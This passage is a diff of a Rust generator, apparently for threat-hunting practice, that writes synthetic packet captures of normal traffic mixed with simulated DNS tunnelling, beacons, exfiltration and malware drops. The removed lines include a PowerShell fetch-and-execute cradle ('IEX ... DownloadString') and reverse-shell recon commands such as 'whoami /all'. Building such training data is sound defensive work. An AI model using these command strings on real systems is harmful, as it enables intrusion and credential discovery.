@@ -681,683 +681,1145 @@ impl World {
 
     fn run<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, task: &Task) {
         match *task {
-            Task::Visit { host } => {
-                let (site, chain) = *self.rng.pick(SITES);
-                let v6 = self.hosts[host].v6.is_some() && self.rng.chance(0.4);
-                let (ip, mut t2) = self.resolve(out, t, host, site, chain, v6);
-                let c = self.host_ep(host, v6);
-                let s = self.server(ip, 443);
-                let rtt = self.rng.range(8_000, 90_000) as i64;
-                let pace = self.rng.range(80, 1500) as i64;
-                let ua = *self.rng.pick(UAS);
-                if self.rng.chance(0.8) {
-                    let profile = *self.rng.pick(&[
-                        ClientProfile::Chrome,
-                        ClientProfile::Chrome,
-                        ClientProfile::Firefox,
-                        ClientProfile::Curl,
-                    ]);
-                    let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
-                    let down = (self.rng.lognormal(30_000.0, 1.2).min(3e6) * self.scale) as usize;
-                    let up = self.rng.range(300, 2500) as usize;
-                    let tls13 = self.rng.chance(0.7);
-                    self.tls_session(out, &mut tcp, Some(site), profile, tls13, false, up, down);
-                    t2 = tcp.t;
-                } else {
-                    let s = self.server(ip, 80);
-                    let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
-                    tcp.open(out);
-                    for i in 0..self.rng.range(1, 5) {
-                        let down = (self.rng.lognormal(12_000.0, 1.0).min(400_000.0) * self.scale)
-                            as usize;
-                        let chunked = self.rng.chance(0.3);
-                        let path = format!("/{}/{}.html", alnum(&mut self.rng, 6), i);
-                        self.http_exchange(out, &mut tcp, site, &path, ua, down, chunked);
-                        tcp.idle(self.rng.range(10_000, 900_000) as i64);
-                    }
-                    tcp.close(out);
-                    t2 = tcp.t;
-                }
-                // sub-resources from CDNs whose names carry random-looking labels
-                for _ in 0..self.rng.range(0, 3) {
-                    let name = match self.rng.range(0, 3) {
-                        0 => format!("d{}.cloudfront.net", alnum(&mut self.rng, 13)),
-                        1 => format!(
-                            "rr{}---sn-{}.googlevideo.com",
-                            self.rng.range(1, 9),
-                            alnum(&mut self.rng, 8)
-                        ),
-                        _ => format!("e{}.a.akamaiedge.net", self.rng.range(1000, 99999)),
-                    };
-                    let (ip, t3) = self.resolve(out, t2 + 1000, host, &name, &[], false);
-                    let c = self.host_ep(host, false);
-                    let s = self.server(ip, 443);
-                    let mut tcp = Tcp::new(&mut self.rng, c, s, t3, rtt, pace);
-                    let down = (self.rng.lognormal(80_000.0, 1.0).min(2e6) * self.scale) as usize;
-                    self.tls_session(
-                        out,
-                        &mut tcp,
-                        Some(&name),
-                        ClientProfile::Chrome,
-                        true,
-                        false,
-                        600,
-                        down,
-                    );
-                }
-            }
-            Task::AvLookup { host } => {
-                let mut h = [0u8; 16];
-                self.rng.fill(&mut h);
-                let name = format!(
-                    "{}.{}.sxl.sophosxl.net",
-                    wirehunt_wire::capture::hex(&h),
-                    self.rng.range(1, 4)
-                );
-                let ans = [Rr {
-                    owner: None,
-                    rtype: 1,
-                    ttl: 300,
-                    rdata: vec![127, 0, 0, 1],
-                }];
-                self.dns(out, t, host, &encode_name(&name), 1, 0, &ans);
-            }
-            Task::Dnsbl { host } => {
-                let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
-                let name = format!("{}.{}.{}.{}.zen.spamhaus.org", o[3], o[2], o[1], o[0]);
-                if self.rng.chance(0.15) {
-                    self.dns(
-                        out,
-                        t,
-                        host,
-                        &encode_name(&name),
-                        1,
-                        0,
-                        &[Rr {
-                            owner: None,
-                            rtype: 1,
-                            ttl: 60,
-                            rdata: vec![127, 0, 0, 2],
-                        }],
-                    );
-                } else {
-                    self.dns(out, t, host, &encode_name(&name), 1, 3, &[]);
-                }
-            }
-            Task::Reverse { host } => {
-                let name = if self.rng.chance(0.7) {
-                    let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
-                    format!("{}.{}.{}.{}.in-addr.arpa", o[3], o[2], o[1], o[0])
-                } else {
-                    let nib: Vec<String> = (0..32)
-                        .map(|_| format!("{:x}", self.rng.range(0, 16)))
-                        .collect();
-                    format!("{}.ip6.arpa", nib.join("."))
-                };
-                let target = format!("host-{}.example.net", self.rng.range(1, 9999));
-                self.dns(
-                    out,
-                    t,
-                    host,
-                    &encode_name(&name),
-                    12,
-                    0,
-                    &[Rr {
-                        owner: None,
-                        rtype: 12,
-                        ttl: 3600,
-                        rdata: encode_name(&target),
-                    }],
-                );
-            }
-            Task::Mdns { host } => {
-                let c = Ep {
-                    ip: IpAddr::V4(self.hosts[host].v4),
-                    port: 5353,
-                    mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
-                };
-                let dst = Ep {
-                    ip: IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)),
-                    port: 5353,
-                    mac: [0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb],
-                };
-                let name = *self.rng.pick(&[
-                    "_services._dns-sd._udp.local",
-                    "_googlecast._tcp.local",
-                    "_airplay._tcp.local",
-                    "_ipp._tcp.local",
-                ]);
-                let mut q = dns_query(0, &encode_name(name), 12, false);
-                q[2] = 0;
-                q[3] = 0;
-                out.push(t, udp_frame(&c, &dst, &q));
-            }
-            Task::Ntp { host } => {
-                let c = Ep {
-                    ip: IpAddr::V4(self.hosts[host].v4),
-                    port: 123,
-                    mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
-                };
-                // half the hosts use the LAN's time server, half a public pool server (resolved at boot,
-                // so no DNS answer in the capture names it)
-                let server = if host % 2 == 0 {
-                    IpAddr::V4(Ipv4Addr::new(10, 10, 0, 3))
-                } else {
-                    IpAddr::V4(public_v4("2.pool.ntp.org"))
-                };
-                let s = self.server(server, 123);
-                let mut req = vec![0u8; 48];
-                req[0] = 0x23;
-                self.rng.fill(&mut req[40..48]);
-                let mut resp = vec![0u8; 48];
-                resp[0] = 0x24;
-                resp[1] = 2;
-                self.rng.fill(&mut resp[16..48]);
-                out.push(t, udp_frame(&c, &s, &req));
-                out.push(
-                    t + self.rng.range(200, 2000) as i64,
-                    udp_frame(&s, &c, &resp),
-                );
-            }
-            Task::Monitor { host } => {
-                let c = self.host_ep(host, false);
-                let s = self.server(IpAddr::V4(Ipv4Addr::new(10, 10, 0, 5)), 8086);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t, 400, 20);
-                tcp.open(out);
-                let body = format!(
-                    "cpu,host=h{host} usage_idle={:.2},usage_user={:.2}\nmem,host=h{host} used_percent={:.2}\n",
-                    self.rng.uniform(50.0, 99.0),
-                    self.rng.uniform(0.0, 30.0),
-                    self.rng.uniform(20.0, 80.0)
-                );
-                let req = format!(
-                    "POST /write?db=telegraf HTTP/1.1\r\nHost: 10.10.0.5:8086\r\nUser-Agent: Telegraf/1.30\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: {}\r\n\r\n{}",
-                    body.len(),
-                    body
-                );
-                tcp.send(out, true, req.as_bytes());
-                tcp.idle(1500);
-                tcp.send(
-                    out,
-                    false,
-                    b"HTTP/1.1 204 No Content\r\nX-Influxdb-Version: 1.8.10\r\n\r\n",
-                );
-                tcp.close(out);
-            }
-            Task::Session { host, kind, until } => {
-                let (sni, port, (p0, p1), (up, down), lan, self_signed) = SESSIONS[kind];
-                let (ip, t2) = match lan {
-                    Some(a) => (IpAddr::V4(Ipv4Addr::from(a)), t),
-                    None => self.resolve(out, t, host, sni, &[], false),
-                };
-                let c = self.host_ep(host, false);
-                let s = self.server(ip, port);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 30_000, 50);
-                let profile = if lan.is_some() {
-                    ClientProfile::Curl
-                } else {
-                    ClientProfile::Chrome
-                };
-                self.tls_open(
-                    out,
-                    &mut tcp,
-                    (lan.is_none()).then_some(sni),
-                    profile,
-                    true,
-                    self_signed,
-                );
-                let period = self.rng.uniform(p0, p1);
-                while tcp.t < until {
-                    tcp.idle((period * 1e6 * self.rng.uniform(0.98, 1.02)) as i64);
-                    let d = app_data(&mut self.rng, up, &self.pool);
-                    tcp.send(out, true, &d);
-                    let d = app_data(&mut self.rng, down, &self.pool);
-                    tcp.send(out, false, &d);
-                }
-                tcp.close(out);
-            }
-            Task::UpdateCheck { host } => {
-                let (ip, t2) = self.resolve(
-                    out,
-                    t,
-                    host,
-                    "aus5.mozilla.org",
-                    &["balrog-aus5.r53-2.services.mozilla.com"],
-                    false,
-                );
-                let c = self.host_ep(host, false);
-                let s = self.server(ip, 443);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 40_000, 100);
-                self.tls_session(
-                    out,
-                    &mut tcp,
-                    Some("aus5.mozilla.org"),
-                    ClientProfile::Firefox,
-                    true,
-                    false,
-                    900,
-                    1400,
-                );
-            }
-            Task::ConnCheck { host } => {
-                let (ip, t2) = self.resolve(
-                    out,
-                    t,
-                    host,
-                    "www.msftconnecttest.com",
-                    &["www.msftconnecttest.com.edgesuite.net"],
-                    false,
-                );
-                let c = self.host_ep(host, false);
-                let s = self.server(ip, 80);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 50);
-                tcp.open(out);
-                tcp.send(out, true, b"GET /connecttest.txt HTTP/1.1\r\nConnection: Close\r\nUser-Agent: Microsoft NCSI\r\nHost: www.msftconnecttest.com\r\n\r\n");
-                tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Length: 22\r\nContent-Type: text/plain\r\nCache-Control: max-age=30, must-revalidate\r\n\r\nMicrosoft Connect Test");
-                tcp.close(out);
-            }
-            Task::CloudUpload { host, bytes } => {
-                let (ip, t2) = self.resolve(out, t, host, "storage.googleapis.com", &[], false);
-                let c = self.host_ep(host, false);
-                let s = self.server(ip, 443);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 100);
-                self.tls_session(
-                    out,
-                    &mut tcp,
-                    Some("storage.googleapis.com"),
-                    ClientProfile::Chrome,
-                    true,
-                    false,
-                    bytes,
-                    4000,
-                );
-            }
-            Task::TunnelQuery { idx } => {
-                let (host, domain, enc, qtype, chunk, seq) = {
-                    let tn = &mut self.tunnels[idx];
-                    tn.seq += 1;
-                    (
-                        tn.host,
-                        tn.domain.clone(),
-                        tn.encoding,
-                        tn.qtype,
-                        tn.chunk,
-                        tn.seq,
-                    )
-                };
-                let data = self.rng.bytes(chunk);
-                let seq_label = format!("{seq:04x}");
-                let qwire = if enc == "iodine" {
-                    let mut labels = vec![seq_label.into_bytes()];
-                    // iodine-like: bytes outside ASCII, labels up to 63 bytes
-                    let mut raw: Vec<u8> = data
-                        .iter()
-                        .map(|b| {
-                            if *b == b'.' || *b < 0x21 {
-                                b ^ 0x80
-                            } else {
-                                *b
-                            }
-                        })
-                        .collect();
-                    while !raw.is_empty() {
-                        let n = raw.len().min(57);
-                        labels.push(raw.drain(..n).collect());
-                    }
-                    encode_raw_labels(&labels, &domain)
-                } else {
-                    let s = match enc {
-                        "hex" => hex(&data),
-                        "base64url" => base64url(&data),
-                        _ => base32(&data),
-                    };
-                    let mut name = seq_label;
-                    for l in labels_of(&s, 63) {
-                        name.push('.');
-                        name.push_str(&l);
-                    }
-                    name.push('.');
-                    name.push_str(&domain);
-                    encode_name(&name)
-                };
-                let n = self.rng.range(8, 120) as usize;
-                let reply = self.rng.bytes(n);
-                let ans = match qtype {
-                    16 => vec![Rr {
-                        owner: None,
-                        rtype: 16,
-                        ttl: 0,
-                        rdata: txt_rdata(base32(&reply).as_bytes()),
-                    }],
-                    10 => vec![Rr {
-                        owner: None,
-                        rtype: 10,
-                        ttl: 0,
-                        rdata: reply,
-                    }],
-                    5 => vec![Rr {
-                        owner: None,
-                        rtype: 5,
-                        ttl: 0,
-                        rdata: encode_name(&format!(
-                            "{}.{}",
-                            labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
-                            domain
-                        )),
-                    }],
-                    15 => vec![Rr {
-                        owner: None,
-                        rtype: 15,
-                        ttl: 0,
-                        rdata: mx_rdata(
-                            10,
-                            &format!(
-                                "{}.{}",
-                                labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
-                                domain
-                            ),
-                        ),
-                    }],
-                    _ => vec![Rr {
-                        owner: None,
-                        rtype: 1,
-                        ttl: 0,
-                        rdata: reply[..4].to_vec(),
-                    }],
-                };
-                self.dns(out, t, host, &qwire, qtype, 0, &ans);
-            }
-            Task::Beacon { idx, tasking } => {
-                let (host, transport, dst, port, domain, beats) = {
-                    let b = &mut self.beacons[idx];
-                    b.beats += 1;
-                    (
-                        b.host,
-                        b.transport,
-                        b.dst,
-                        b.port,
-                        b.domain.clone(),
-                        b.beats,
-                    )
-                };
-                let mut t0 = t;
-                if transport != "tcp" && transport != "http_ip" && beats % 10 == 1 {
-                    t0 = self.dns_a(out, t, host, &domain, dst);
-                }
-                let c = self.host_ep(host, false);
-                let s = self.server(dst, port);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t0, 60_000, 200);
-                let down = if tasking {
-                    self.rng.range(5_000, 50_000) as usize
-                } else {
-                    self.rng.range(120, 260) as usize
-                };
-                match transport {
-                    "tls" => {
-                        let up = self.rng.range(180, 320) as usize;
-                        self.tls_session(
-                            out,
-                            &mut tcp,
-                            Some(&domain),
-                            ClientProfile::Minimal,
-                            false,
-                            true,
-                            up,
-                            down,
-                        )
-                    }
-                    "http" | "http_ip" => {
-                        tcp.open(out);
-                        let id = alnum(&mut self.rng, 12);
-                        let host_hdr = if transport == "http_ip" {
-                            format!("{dst}:{port}")
-                        } else {
-                            domain.clone()
-                        };
-                        let req = format!(
-                            "GET /api/v1/checkin?id={id} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n"
-                        );
-                        tcp.send(out, true, req.as_bytes());
-                        tcp.idle(2000);
-                        let body = self.rng.bytes(down);
-                        let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
-                        resp.extend_from_slice(&body);
-                        tcp.send(out, false, &resp);
-                        tcp.close(out);
-                    }
-                    _ => {
-                        tcp.open(out);
-                        let n = self.rng.range(40, 90) as usize;
-                        let hello = self.rng.bytes(n);
-                        tcp.send(out, true, &hello);
-                        let body = self.rng.bytes(down);
-                        tcp.send(out, false, &body);
-                        tcp.close(out);
-                    }
-                }
-            }
-            Task::HttpExfil { idx, bytes } => {
-                let (host, dst, port, domain, method, chunked, compressible) = {
-                    let e = &self.http_exfil[idx];
-                    (
-                        e.host,
-                        e.dst,
-                        e.port,
-                        e.domain.clone(),
-                        e.method,
-                        e.chunked,
-                        e.compressible,
-                    )
-                };
-                let c = self.host_ep(host, false);
-                let s = self.server(dst, port);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t, 40_000, 150);
-                tcp.open(out);
-                let body: Vec<u8> = if compressible {
-                    self.text.iter().cycle().take(bytes).copied().collect()
-                } else {
-                    self.pool
-                        .iter()
-                        .cycle()
-                        .skip(self.rng.range(0, 1000) as usize)
-                        .take(bytes)
-                        .copied()
-                        .collect()
-                };
-                let hostname = if port == 80 {
-                    domain.clone()
-                } else {
-                    format!("{domain}:{port}")
-                };
-                let mut req = if chunked {
-                    format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n", alnum(&mut self.rng, 8)).into_bytes()
-                } else {
-                    format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", alnum(&mut self.rng, 8), body.len()).into_bytes()
-                };
-                if chunked {
-                    for ch in body.chunks(8192) {
-                        req.extend_from_slice(format!("{:x}\r\n", ch.len()).as_bytes());
-                        req.extend_from_slice(ch);
-                        req.extend_from_slice(b"\r\n");
-                    }
-                    req.extend_from_slice(b"0\r\n\r\n");
-                } else {
-                    req.extend_from_slice(&body);
-                }
-                tcp.send(out, true, &req);
-                tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"status\":\"ok\"}\n");
-                tcp.close(out);
-            }
-            Task::Dropper { idx } => {
-                let (host, dst, host_hdr, by_name, variant) = {
-                    let d = &self.droppers[idx];
-                    (d.host, d.dst, d.host_hdr.clone(), d.by_name, d.variant)
-                };
-                let t2 = if by_name {
-                    self.dns_a(out, t, host, &host_hdr, dst)
-                } else {
-                    t
-                };
-                let c = self.host_ep(host, false);
-                let s = self.server(dst, 80);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 60_000, 120);
-                tcp.open(out);
-                let n = self.rng.range(90_000, 400_000) as usize;
-                let name = alnum(&mut self.rng, 10);
-                let browser = *self.rng.pick(UAS);
-                let (path, ua, ctype, body) = match variant {
-                    "pe" => (
-                        format!("/download/{name}.exe"),
-                        browser.to_string(),
-                        "application/x-msdownload",
-                        pe_image(&mut self.rng, n),
-                    ),
-                    "pe_as_image" => (
-                        format!("/images/{name}.jpg"),
-                        browser.to_string(),
-                        "image/jpeg",
-                        pe_image(&mut self.rng, n),
-                    ),
-                    // an exploit kit's drop: encrypted for the victim, declared as what it becomes
-                    "encrypted" => (
-                        format!(
-                            "/?{}={}&q={}",
-                            alnum(&mut self.rng, 3),
-                            alnum(&mut self.rng, 24),
-                            alnum(&mut self.rng, 40)
-                        ),
-                        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)"
-                            .to_string(),
-                        "application/x-msdownload",
-                        self.rng.bytes(n),
-                    ),
-                    _ => {
-                        let stage = format!(
-                            "$u='http://{host_hdr}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString($u)\r\n",
-                            alnum(&mut self.rng, 12)
-                        );
-                        (format!("/{name}"), "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4780".to_string(), "text/plain", stage.into_bytes())
-                    }
-                };
-                let req = format!(
-                    "GET {path} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n"
-                );
-                tcp.send(out, true, req.as_bytes());
-                tcp.idle(self.rng.range(20_000, 200_000) as i64);
-                let mut resp = format!("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
-                resp.extend_from_slice(&body);
-                tcp.send(out, false, &resp);
-                tcp.close(out);
-            }
+            Task::Visit { host } => self.visit(out, t, host),
+            Task::AvLookup { host } => self.av_lookup(out, t, host),
+            Task::Dnsbl { host } => self.dnsbl(out, t, host),
+            Task::Reverse { host } => self.reverse(out, t, host),
+            Task::Mdns { host } => self.mdns(out, t, host),
+            Task::Ntp { host } => self.ntp(out, t, host),
+            Task::Monitor { host } => self.monitor(out, t, host),
+            Task::Session { host, kind, until } => self.session(out, t, host, kind, until),
+            Task::UpdateCheck { host } => self.update_check(out, t, host),
+            Task::ConnCheck { host } => self.conn_check(out, t, host),
+            Task::CloudUpload { host, bytes } => self.cloud_upload(out, t, host, bytes),
+            Task::TunnelQuery { idx } => self.tunnel_query(out, t, idx),
+            Task::Beacon { idx, tasking } => self.beacon(out, t, idx, tasking),
+            Task::HttpExfil { idx, bytes } => self.http_exfil(out, t, idx, bytes),
+            Task::Dropper { idx } => self.dropper(out, t, idx),
             Task::Shell {
                 host,
                 dst,
                 port,
                 until,
-            } => {
-                let c = self.host_ep(host, false);
-                let s = self.server(dst, port);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t, 80_000, 200);
-                tcp.open(out);
-                let banner = b"Microsoft Windows [Version 10.0.19045.4651]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\Public>";
-                tcp.send(out, true, banner);
-                while tcp.t < until {
-                    // think time: irregular (an operator), never long enough to time the flow out
-                    tcp.idle((self.rng.exp(35e6) as i64).clamp(2_000_000, 170_000_000));
-                    let cmd = self
-                        .rng
-                        .pick(&[
-                            "whoami /all",
-                            "ipconfig /all",
-                            "net group \"domain admins\" /domain",
-                            "dir C:\\Users",
-                            "tasklist /v",
-                            "systeminfo",
-                            "nltest /dclist:",
-                            "type C:\\Users\\Public\\notes.txt",
-                        ])
-                        .to_string();
-                    tcp.send(out, false, format!("{cmd}\r\n").as_bytes());
-                    let n = self.rng.range(60, 4000) as usize;
-                    let mut answer = self.text[..n.min(self.text.len())].to_vec();
-                    answer.extend_from_slice(b"\r\nC:\\Users\\Public>");
-                    tcp.send(out, true, &answer);
-                }
-                tcp.close(out);
+            } => self.shell(out, t, host, dst, port, until),
+            Task::VendorDownload { host, kind } => self.vendor_download(out, t, host, kind),
+            Task::TlsExfil { idx, bytes } => self.tls_exfil(out, t, idx, bytes),
+        }
+    }
+
+    fn visit<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let (site, chain) = *self.rng.pick(SITES);
+        let v6 = self.hosts[host].v6.is_some() && self.rng.chance(0.4);
+        let (ip, mut t2) = self.resolve(out, t, host, site, chain, v6);
+        let c = self.host_ep(host, v6);
+        let s = self.server(ip, 443);
+        let rtt = self.rng.range(8_000, 90_000) as i64;
+        let pace = self.rng.range(80, 1500) as i64;
+        let ua = *self.rng.pick(UAS);
+        if self.rng.chance(0.8) {
+            let profile = *self.rng.pick(&[
+                ClientProfile::Chrome,
+                ClientProfile::Chrome,
+                ClientProfile::Firefox,
+                ClientProfile::Curl,
+            ]);
+            let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
+            let down = (self.rng.lognormal(30_000.0, 1.2).min(3e6) * self.scale) as usize;
+            let up = self.rng.range(300, 2500) as usize;
+            let tls13 = self.rng.chance(0.7);
+            self.tls_session(out, &mut tcp, Some(site), profile, tls13, false, up, down);
+            t2 = tcp.t;
+        } else {
+            let s = self.server(ip, 80);
+            let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
+            tcp.open(out);
+            for i in 0..self.rng.range(1, 5) {
+                let down = (self.rng.lognormal(12_000.0, 1.0).min(400_000.0) * self.scale) as usize;
+                let chunked = self.rng.chance(0.3);
+                let path = format!("/{}/{}.html", alnum(&mut self.rng, 6), i);
+                self.http_exchange(out, &mut tcp, site, &path, ua, down, chunked);
+                tcp.idle(self.rng.range(10_000, 900_000) as i64);
             }
-            Task::VendorDownload { host, kind } => {
-                let (name, cnames, path, ua, referer): (&str, &[&str], String, &str, Option<&str>) =
-                    if kind == 0 {
-                        (
-                            "download.windowsupdate.com",
-                            &["download.windowsupdate.com.edgesuite.net"],
-                            format!(
-                                "/c/msdownload/update/software/secu/2026/11/windows10.0-kb{}-x64_{}.exe",
-                                self.rng.range(5_000_000, 5_100_000),
-                                proto::hex(&self.rng.bytes(20))
-                            ),
-                            "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
-                            None,
-                        )
+            tcp.close(out);
+            t2 = tcp.t;
+        }
+        // sub-resources from CDNs whose names carry random-looking labels
+        for _ in 0..self.rng.range(0, 3) {
+            let name = match self.rng.range(0, 3) {
+                0 => format!("d{}.cloudfront.net", alnum(&mut self.rng, 13)),
+                1 => format!(
+                    "rr{}---sn-{}.googlevideo.com",
+                    self.rng.range(1, 9),
+                    alnum(&mut self.rng, 8)
+                ),
+                _ => format!("e{}.a.akamaiedge.net", self.rng.range(1000, 99999)),
+            };
+            let (ip, t3) = self.resolve(out, t2 + 1000, host, &name, &[], false);
+            let c = self.host_ep(host, false);
+            let s = self.server(ip, 443);
+            let mut tcp = Tcp::new(&mut self.rng, c, s, t3, rtt, pace);
+            let down = (self.rng.lognormal(80_000.0, 1.0).min(2e6) * self.scale) as usize;
+            self.tls_session(
+                out,
+                &mut tcp,
+                Some(&name),
+                ClientProfile::Chrome,
+                true,
+                false,
+                600,
+                down,
+            );
+        }
+    }
+
+    fn av_lookup<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let mut h = [0u8; 16];
+        self.rng.fill(&mut h);
+        let name = format!(
+            "{}.{}.sxl.sophosxl.net",
+            wirehunt_wire::capture::hex(&h),
+            self.rng.range(1, 4)
+        );
+        let ans = [Rr {
+            owner: None,
+            rtype: 1,
+            ttl: 300,
+            rdata: vec![127, 0, 0, 1],
+        }];
+        self.dns(out, t, host, &encode_name(&name), 1, 0, &ans);
+    }
+
+    fn dnsbl<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
+        let name = format!("{}.{}.{}.{}.zen.spamhaus.org", o[3], o[2], o[1], o[0]);
+        if self.rng.chance(0.15) {
+            self.dns(
+                out,
+                t,
+                host,
+                &encode_name(&name),
+                1,
+                0,
+                &[Rr {
+                    owner: None,
+                    rtype: 1,
+                    ttl: 60,
+                    rdata: vec![127, 0, 0, 2],
+                }],
+            );
+        } else {
+            self.dns(out, t, host, &encode_name(&name), 1, 3, &[]);
+        }
+    }
+
+    fn reverse<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let name = if self.rng.chance(0.7) {
+            let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
+            format!("{}.{}.{}.{}.in-addr.arpa", o[3], o[2], o[1], o[0])
+        } else {
+            let nib: Vec<String> = (0..32)
+                .map(|_| format!("{:x}", self.rng.range(0, 16)))
+                .collect();
+            format!("{}.ip6.arpa", nib.join("."))
+        };
+        let target = format!("host-{}.example.net", self.rng.range(1, 9999));
+        self.dns(
+            out,
+            t,
+            host,
+            &encode_name(&name),
+            12,
+            0,
+            &[Rr {
+                owner: None,
+                rtype: 12,
+                ttl: 3600,
+                rdata: encode_name(&target),
+            }],
+        );
+    }
+
+    fn mdns<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let c = Ep {
+            ip: IpAddr::V4(self.hosts[host].v4),
+            port: 5353,
+            mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
+        };
+        let dst = Ep {
+            ip: IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)),
+            port: 5353,
+            mac: [0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb],
+        };
+        let name = *self.rng.pick(&[
+            "_services._dns-sd._udp.local",
+            "_googlecast._tcp.local",
+            "_airplay._tcp.local",
+            "_ipp._tcp.local",
+        ]);
+        let mut q = dns_query(0, &encode_name(name), 12, false);
+        q[2] = 0;
+        q[3] = 0;
+        out.push(t, udp_frame(&c, &dst, &q));
+    }
+
+    fn ntp<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let c = Ep {
+            ip: IpAddr::V4(self.hosts[host].v4),
+            port: 123,
+            mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
+        };
+        // half the hosts use the LAN's time server, half a public pool server (resolved at boot,
+        // so no DNS answer in the capture names it)
+        let server = if host % 2 == 0 {
+            IpAddr::V4(Ipv4Addr::new(10, 10, 0, 3))
+        } else {
+            IpAddr::V4(public_v4("2.pool.ntp.org"))
+        };
+        let s = self.server(server, 123);
+        let mut req = vec![0u8; 48];
+        req[0] = 0x23;
+        self.rng.fill(&mut req[40..48]);
+        let mut resp = vec![0u8; 48];
+        resp[0] = 0x24;
+        resp[1] = 2;
+        self.rng.fill(&mut resp[16..48]);
+        out.push(t, udp_frame(&c, &s, &req));
+        out.push(
+            t + self.rng.range(200, 2000) as i64,
+            udp_frame(&s, &c, &resp),
+        );
+    }
+
+    fn monitor<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let c = self.host_ep(host, false);
+        let s = self.server(IpAddr::V4(Ipv4Addr::new(10, 10, 0, 5)), 8086);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t, 400, 20);
+        tcp.open(out);
+        let body = format!(
+            "cpu,host=h{host} usage_idle={:.2},usage_user={:.2}\nmem,host=h{host} used_percent={:.2}\n",
+            self.rng.uniform(50.0, 99.0),
+            self.rng.uniform(0.0, 30.0),
+            self.rng.uniform(20.0, 80.0)
+        );
+        let req = format!(
+            "POST /write?db=telegraf HTTP/1.1\r\nHost: 10.10.0.5:8086\r\nUser-Agent: Telegraf/1.30\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: {}\r\n\r\n{}",
+            body.len(),
+            body
+        );
+        tcp.send(out, true, req.as_bytes());
+        tcp.idle(1500);
+        tcp.send(
+            out,
+            false,
+            b"HTTP/1.1 204 No Content\r\nX-Influxdb-Version: 1.8.10\r\n\r\n",
+        );
+        tcp.close(out);
+    }
+
+    fn session<W: Write>(
+        &mut self,
+        out: &mut PcapOut<W>,
+        t: i64,
+        host: usize,
+        kind: usize,
+        until: i64,
+    ) {
+        let (sni, port, (p0, p1), (up, down), lan, self_signed) = SESSIONS[kind];
+        let (ip, t2) = match lan {
+            Some(a) => (IpAddr::V4(Ipv4Addr::from(a)), t),
+            None => self.resolve(out, t, host, sni, &[], false),
+        };
+        let c = self.host_ep(host, false);
+        let s = self.server(ip, port);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 30_000, 50);
+        let profile = if lan.is_some() {
+            ClientProfile::Curl
+        } else {
+            ClientProfile::Chrome
+        };
+        self.tls_open(
+            out,
+            &mut tcp,
+            (lan.is_none()).then_some(sni),
+            profile,
+            true,
+            self_signed,
+        );
+        let period = self.rng.uniform(p0, p1);
+        while tcp.t < until {
+            tcp.idle((period * 1e6 * self.rng.uniform(0.98, 1.02)) as i64);
+            let d = app_data(&mut self.rng, up, &self.pool);
